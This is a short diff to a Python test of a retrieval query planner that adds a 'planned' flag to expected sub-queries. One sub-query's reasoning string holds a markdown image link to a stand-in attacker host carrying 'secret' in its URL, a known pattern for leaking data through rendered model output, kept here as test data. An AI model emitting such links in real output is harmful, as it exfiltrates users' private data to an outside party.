@@ -172,8 +172,8 @@ async def test_a_plan_becomes_queries_with_collections_filters_weights_and_reaso
     )
     assert after.queries == (
         QUESTION,
-        SubQuery("clock maker", 1.0, "the maker ! [x](http://evil.example/?q=secret)"),
-        SubQuery("letters", 0.5, "why", ("letters",), {"year": {"$gt": 1650}}),
+        SubQuery("clock maker", 1.0, "the maker ! [x](http://evil.example/?q=secret)", planned=True),
+        SubQuery("letters", 0.5, "why", ("letters",), {"year": {"$gt": 1650}}, planned=True),
     )
     assert after.warnings == ()
 
